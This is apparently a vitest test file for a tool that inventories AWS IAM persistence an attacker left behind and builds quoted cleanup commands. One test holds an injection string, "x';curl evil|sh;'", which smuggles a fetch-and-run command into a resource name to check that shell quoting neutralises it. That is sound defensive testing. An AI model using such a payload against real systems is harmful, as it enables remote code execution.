import {
  GetOpenIDConnectProviderCommand,
  GetPolicyCommand,
  GetPolicyVersionCommand,
  GetSAMLProviderCommand,
  IAMClient,
  ListAttachedGroupPoliciesCommand,
  ListGroupsForUserCommand,
  ListMFADevicesCommand,
  ListPolicyVersionsCommand,
  ListServiceSpecificCredentialsCommand,
  ListSSHPublicKeysCommand,
  ListVirtualMFADevicesCommand,
  NoSuchEntityException,
} from '@aws-sdk/client-iam';
import { mockClient } from 'aws-sdk-client-mock';
import { beforeEach, describe, expect, it } from 'vitest';
import type { ActivitySummary, RiskyEvent } from '../../../../src/activity/activity-summary.js';
import { shellWord } from '../../../../src/common/shell-words.js';
import { inventoryLines } from '../../../../src/message/leftovers.js';
import type { Inventory } from '../../../../src/steps/inventory/inventory-types.js';
import { takeInventory } from '../../../../src/steps/inventory/take-inventory.js';

/*
 * The IAM checks of what the attacker left beyond users, keys, roles and grants, over a mocked IAM:
 * moto serves most of these calls (the integration test replays them there), but not
 * ListServiceSpecificCredentials, and a mock says exactly which calls were sent.
 */

const iamMock = mockClient(IAMClient);
const deps = {
  iam: new IAMClient({ region: 'us-east-1' }),
  ec2: () => ({ send: async () => ({}) }) as never,
  lambda: () => ({ send: async () => ({}) }) as never,
  accountId: '123456789012',
};
const POLICY = 'arn:aws:iam::123456789012:policy/ops';
const SERIAL = 'arn:aws:iam::123456789012:mfa/attacker';
const USER = { type: 'AWS::IAM::User', name: 'alice' };

function risky(eventName: string, resources: RiskyEvent['resources']): RiskyEvent {
  return {
    eventName,
    eventTime: '2026-11-27T03:00:00Z',
    awsRegion: 'us-east-1',
    eventId: eventName,
    category: 'persistence',
    errorCode: null,
    resources,
  };
}

function inventoryOf(...events: RiskyEvent[]): Promise<Inventory> {
  const summary = {
    accessKeyId: 'AKIAIOSFODNN7EXAMPLE',
    userName: 'alice',
    regions: { searched: ['us-east-1'], failed: [] },
    truncated: false,
    riskyEvents: events,
  };
  return takeInventory(deps, [summary as unknown as ActivitySummary], 'alice');
}

function rows(inventory: Inventory) {
  return inventory.items.map((item) => [item.kind, item.name, item.state, item.command]);
}

const gone = () => new NoSuchEntityException({ message: 'gone', $metadata: {} });

/** alice in the group Admins, as IAM lists it, which grants AdministratorAccess. */
function aliceInAdmins(): void {
  iamMock.on(ListGroupsForUserCommand, { UserName: 'alice' }).resolves({
    Groups: [
      {
        GroupName: 'Admins',
        GroupId: 'g',
        Arn: 'arn:aws:iam::123456789012:group/Admins',
        Path: '/',
        CreateDate: new Date(),
      },
    ],
  });
  iamMock.on(ListAttachedGroupPoliciesCommand, { GroupName: 'Admins' }).resolves({
    AttachedPolicies: [{ PolicyName: 'AdministratorAccess', PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }],
  });
}

beforeEach(() => {
  iamMock.reset();
});

describe('the inventory of credentials and memberships', () => {
  it('lists the SSH key the attacker uploaded while it exists, and gone once deleted', async () => {
    iamMock.on(ListSSHPublicKeysCommand, { UserName: 'alice' }).resolves({
      SSHPublicKeys: [{ UserName: 'alice', SSHPublicKeyId: 'APKAATTACKER', Status: 'Active', UploadDate: new Date() }],
    });
    iamMock.on(ListSSHPublicKeysCommand, { UserName: 'bob' }).resolves({ SSHPublicKeys: [] });

    const inventory = await inventoryOf(
      risky('UploadSSHPublicKey', [USER, { type: 'AWS::IAM::SSHPublicKey', name: 'APKAATTACKER' }]),
      risky('UploadSSHPublicKey', [
        { type: 'AWS::IAM::User', name: 'bob' },
        { type: 'AWS::IAM::SSHPublicKey', name: 'APKAOLD' },
      ]),
    );

    expect(rows(inventory)).toEqual([
      [
        'ssh-public-key',
        'APKAATTACKER',
        'exists',
        'aws iam delete-ssh-public-key --user-name alice --ssh-public-key-id APKAATTACKER',
      ],
      ['ssh-public-key', 'APKAOLD', 'gone', ''],
    ]);
    expect(inventory.items[0]?.note).toBe('Active');
  });

  it('lists every SSH key of the user when the record names none, to check which is the attacker’s', async () => {
    iamMock.on(ListSSHPublicKeysCommand).resolves({
      SSHPublicKeys: [
        { UserName: 'alice', SSHPublicKeyId: 'APKAONE', Status: 'Active', UploadDate: new Date() },
        { UserName: 'alice', SSHPublicKeyId: 'APKATWO', Status: 'Inactive', UploadDate: new Date() },
      ],
    });

    const inventory = await inventoryOf(risky('UploadSSHPublicKey', [USER]));

    expect(inventory.items.map((item) => [item.name, item.state, item.owner])).toEqual([
      ['APKAONE', 'exists', 'alice'],
      ['APKATWO', 'exists', 'alice'],
    ]);
    expect(inventory.items[1]?.note).toMatch(/^Inactive; the record names none/);
  });

  it('lists a service-specific credential with its service, and gone with its user', async () => {
    iamMock.on(ListServiceSpecificCredentialsCommand, { UserName: 'alice' }).resolves({
      ServiceSpecificCredentials: [
        {
          UserName: 'alice',
          ServiceSpecificCredentialId: 'ACCAATTACKER',
          ServiceName: 'codecommit.amazonaws.com',
          ServiceUserName: 'alice-at-1',
          Status: 'Active',
          CreateDate: new Date(),
        },
      ],
    });
    iamMock.on(ListServiceSpecificCredentialsCommand, { UserName: 'removed' }).rejects(gone());

    const inventory = await inventoryOf(
      risky('CreateServiceSpecificCredential', [
        USER,
        { type: 'AWS::IAM::ServiceSpecificCredential', name: 'ACCAATTACKER' },
      ]),
      risky('CreateServiceSpecificCredential', [{ type: 'AWS::IAM::User', name: 'removed' }]),
    );

    expect(rows(inventory)).toEqual([
      [
        'service-credential',
        'ACCAATTACKER',
        'exists',
        'aws iam delete-service-specific-credential --user-name alice --service-specific-credential-id ACCAATTACKER',
      ],
      ['service-credential', '(not named)', 'gone', ''],
    ]);
    expect(inventory.items[0]?.note).toBe('Active, for codecommit.amazonaws.com');
  });

  it('lists a user still in the group it was added to, with what the group grants', async () => {
    aliceInAdmins();
    iamMock.on(ListGroupsForUserCommand, { UserName: 'bob' }).resolves({ Groups: [] });

    const inventory = await inventoryOf(
      risky('AddUserToGroup', [USER, { type: 'AWS::IAM::Group', name: 'Admins' }]),
      risky('AddUserToGroup', [
        { type: 'AWS::IAM::User', name: 'bob' },
        { type: 'AWS::IAM::Group', name: 'Admins' },
      ]),
    );

    expect(rows(inventory)).toEqual([
      ['group-membership', 'Admins', 'exists', 'aws iam remove-user-from-group --group-name Admins --user-name alice'],
      ['group-membership', 'Admins', 'gone', ''],
    ]);
    expect(inventory.items[0]?.note).toBe('the group grants AdministratorAccess');
    expect(inventoryLines(inventory)).toContain(
      'group Admins with member alice (the group grants AdministratorAccess): aws iam remove-user-from-group --group-name Admins --user-name alice',
    );
  });
});

describe('the inventory of a group membership named in another case', () => {
  it('finds the group IAM holds whatever case the record spells it in, and names it as IAM does', async () => {
    aliceInAdmins();

    const inventory = await inventoryOf(risky('AddUserToGroup', [USER, { type: 'AWS::IAM::Group', name: 'ADMINS' }]));

    expect(rows(inventory)).toEqual([
      ['group-membership', 'ADMINS', 'exists', 'aws iam remove-user-from-group --group-name Admins --user-name alice'],
    ]);
    expect(inventory.items[0]?.note).toBe('the group grants AdministratorAccess');
  });
});

describe('the inventory of policies and their versions', () => {
  const versions = {
    Versions: [
      { VersionId: 'v1', IsDefaultVersion: false, CreateDate: new Date('2026-01-01T00:00:00Z') },
      { VersionId: 'v2', IsDefaultVersion: false, CreateDate: new Date('2026-06-01T00:00:00Z') },
      { VersionId: 'v3', IsDefaultVersion: true, CreateDate: new Date('2026-11-27T03:00:00Z') },
    ],
  };
  const version = (id: string) => [POLICY_RESOURCE, { type: 'AWS::IAM::PolicyVersion', name: id }];
  const POLICY_RESOURCE = { type: 'AWS::IAM::Policy', name: POLICY };

  it('lists the attacker’s default version with the command that restores the newest other one, then deletes it', async () => {
    iamMock
      .on(GetPolicyVersionCommand, { VersionId: 'v3' })
      .resolves({ PolicyVersion: { VersionId: 'v3', IsDefaultVersion: true } });
    iamMock.on(ListPolicyVersionsCommand).resolves(versions);

    const inventory = await inventoryOf(risky('CreatePolicyVersion', version('v3')));

    expect(rows(inventory)).toEqual([
      [
        'policy-version',
        'v3',
        'exists',
        `aws iam set-default-policy-version --policy-arn ${POLICY} --version-id v2 && aws iam delete-policy-version --policy-arn ${POLICY} --version-id v3`,
      ],
    ]);
    expect(inventory.items[0]?.note).toMatch(/^the default version: .*v2 is the newest other version/);
  });

  it('lists a version that is not the default with the command that deletes it, and gone once deleted', async () => {
    iamMock
      .on(GetPolicyVersionCommand, { VersionId: 'v4' })
      .resolves({ PolicyVersion: { VersionId: 'v4', IsDefaultVersion: false } });
    iamMock.on(GetPolicyVersionCommand, { VersionId: 'v5' }).rejects(gone());

    const inventory = await inventoryOf(
      risky('CreatePolicyVersion', version('v4')),
      risky('CreatePolicyVersion', version('v5')),
    );

    expect(rows(inventory)).toEqual([
      ['policy-version', 'v4', 'exists', `aws iam delete-policy-version --policy-arn ${POLICY} --version-id v4`],
      ['policy-version', 'v5', 'gone', ''],
    ]);
  });

  it('does not check a version its record does not name, and says how to compare them', async () => {
    const inventory = await inventoryOf(risky('CreatePolicyVersion', [POLICY_RESOURCE]));

    expect(rows(inventory)).toEqual([
      ['policy-version', '(not named)', 'unknown', `aws iam list-policy-versions --policy-arn ${POLICY}`],
    ]);
    expect(inventoryLines(inventory)).toContain(
      `NOT CHECKED: policy version (not named) of ${POLICY} (the record names no version: compare the policy's versions): aws iam list-policy-versions --policy-arn ${POLICY}`,
    );
    expect(iamMock.calls()).toEqual([]);
  });

  it('lists a default the attacker chose while it still is the default, and gone once another is', async () => {
    iamMock.on(GetPolicyCommand).resolves({ Policy: { Arn: POLICY, DefaultVersionId: 'v1' } });
    iamMock.on(ListPolicyVersionsCommand).resolves(versions);

    const inventory = await inventoryOf(
      risky('SetDefaultPolicyVersion', version('v1')),
      risky('SetDefaultPolicyVersion', version('v2')),
    );

    expect(rows(inventory)).toEqual([
      [
        'default-policy-version',
        'v1',
        'exists',
        `aws iam set-default-policy-version --policy-arn ${POLICY} --version-id v3`,
      ],
      ['default-policy-version', 'v2', 'gone', ''],
    ]);
  });

  it('lists a policy the attacker created, with how many principals it is attached to', async () => {
    iamMock.on(GetPolicyCommand, { PolicyArn: POLICY }).resolves({ Policy: { Arn: POLICY, AttachmentCount: 2 } });
    iamMock.on(GetPolicyCommand, { PolicyArn: `${POLICY}-removed` }).rejects(gone());

    const inventory = await inventoryOf(
      risky('CreatePolicy', [{ type: 'AWS::IAM::Policy', name: POLICY }]),
      risky('CreatePolicy', [{ type: 'AWS::IAM::Policy', name: `${POLICY}-removed` }]),
    );

    expect(rows(inventory)).toEqual([
      ['managed-policy', POLICY, 'exists', `aws iam delete-policy --policy-arn ${POLICY}`],
      ['managed-policy', `${POLICY}-removed`, 'gone', ''],
    ]);
    expect(inventory.items[0]?.note).toMatch(/^attached to 2 user\(s\), group\(s\) or role\(s\)/);
  });
});

describe('the inventory of MFA devices and identity providers', () => {
  it('lists an MFA device enabled for a user, and one created and assigned, with the commands that remove them', async () => {
    iamMock.on(ListMFADevicesCommand, { UserName: 'alice' }).resolves({
      MFADevices: [{ UserName: 'alice', SerialNumber: SERIAL, EnableDate: new Date() }],
    });
    iamMock.on(ListVirtualMFADevicesCommand).resolves({
      VirtualMFADevices: [
        { SerialNumber: SERIAL, User: { UserName: 'alice', UserId: 'u', Arn: 'a', Path: '/', CreateDate: new Date() } },
      ],
    });

    const inventory = await inventoryOf(
      risky('CreateVirtualMFADevice', [{ type: 'AWS::IAM::MFADevice', name: SERIAL }]),
      risky('EnableMFADevice', [USER, { type: 'AWS::IAM::MFADevice', name: SERIAL }]),
    );

    expect(rows(inventory)).toEqual([
      [
        'mfa-device',
        SERIAL,
        'exists',
        `aws iam deactivate-mfa-device --user-name alice --serial-number ${SERIAL} && aws iam delete-virtual-mfa-device --serial-number ${SERIAL}`,
      ],
      ['mfa-device', SERIAL, 'exists', `aws iam deactivate-mfa-device --user-name alice --serial-number ${SERIAL}`],
    ]);
  });

  it('says an MFA device is gone once deactivated and deleted', async () => {
    iamMock.on(ListMFADevicesCommand).resolves({ MFADevices: [] });
    iamMock.on(ListVirtualMFADevicesCommand).resolves({ VirtualMFADevices: [] });

    const inventory = await inventoryOf(
      risky('CreateVirtualMFADevice', [{ type: 'AWS::IAM::MFADevice', name: SERIAL }]),
      risky('EnableMFADevice', [USER, { type: 'AWS::IAM::MFADevice', name: SERIAL }]),
    );

    expect(inventory.items.map((item) => item.state)).toEqual(['gone', 'gone']);
  });

  it('lists SAML and OIDC providers while they exist, and one already deleted as gone', async () => {
    const saml = 'arn:aws:iam::123456789012:saml-provider/attacker';
    const oidc = 'arn:aws:iam::123456789012:oidc-provider/token.example.com';
    iamMock.on(GetSAMLProviderCommand).resolves({});
    iamMock
      .on(GetOpenIDConnectProviderCommand, { OpenIDConnectProviderArn: oidc })
      .resolves({ Url: 'token.example.com' });
    iamMock.on(GetOpenIDConnectProviderCommand, { OpenIDConnectProviderArn: `${oidc}-removed` }).rejects(gone());

    const inventory = await inventoryOf(
      risky('CreateSAMLProvider', [{ type: 'AWS::IAM::SAMLProvider', name: saml }]),
      risky('CreateOpenIDConnectProvider', [{ type: 'AWS::IAM::OIDCProvider', name: oidc }]),
      risky('CreateOpenIDConnectProvider', [{ type: 'AWS::IAM::OIDCProvider', name: `${oidc}-removed` }]),
    );

    expect(rows(inventory)).toEqual([
      ['identity-provider', saml, 'exists', `aws iam delete-saml-provider --saml-provider-arn ${saml}`],
      [
        'identity-provider',
        oidc,
        'exists',
        `aws iam delete-open-id-connect-provider --open-id-connect-provider-arn ${oidc}`,
      ],
      ['identity-provider', `${oidc}-removed`, 'gone', ''],
    ]);
    expect(inventory.items[1]?.note).toMatch(
      /^OIDC token\.example\.com; a role trusting it lets in whoever it vouches for/,
    );
  });

  it('leaves an item not checked, with why, when IAM refuses the read', async () => {
    iamMock
      .on(ListGroupsForUserCommand)
      .rejects(Object.assign(new Error('denied'), { name: 'AccessDenied', $metadata: {} }));

    const inventory = await inventoryOf(risky('AddUserToGroup', [USER, { type: 'AWS::IAM::Group', name: 'Admins' }]));

    expect(inventory.items).toEqual([
      expect.objectContaining({ kind: 'group-membership', state: 'unknown', note: 'could not check: AccessDenied' }),
    ]);
  });

  it('only reads, and quotes every name an attacker chose', async () => {
    const name = "x';curl evil|sh;'";
    iamMock.on(ListSSHPublicKeysCommand).resolves({
      SSHPublicKeys: [{ UserName: name, SSHPublicKeyId: 'APKA', Status: 'Active', UploadDate: new Date() }],
    });
    iamMock.on(ListGroupsForUserCommand).resolves({
      Groups: [{ GroupName: name, GroupId: 'g', Arn: 'a', Path: '/', CreateDate: new Date() }],
    });
    iamMock.on(ListAttachedGroupPoliciesCommand).resolves({});

    const inventory = await inventoryOf(
      risky('UploadSSHPublicKey', [{ type: 'AWS::IAM::User', name }]),
      risky('AddUserToGroup', [
        { type: 'AWS::IAM::User', name },
        { type: 'AWS::IAM::Group', name },
      ]),
    );

    const word = shellWord(name);
    expect(word).toBe(`'x'\\'';curl evil|sh;'\\'''`);
    expect(inventory.items.map((item) => item.command)).toEqual([
      `aws iam delete-ssh-public-key --user-name ${word} --ssh-public-key-id APKA`,
      `aws iam remove-user-from-group --group-name ${word} --user-name ${word}`,
    ]);
    expect(iamMock.calls().every((call) => /^(Get|List)/.test(call.args[0].constructor.name))).toBe(true);
  });
});
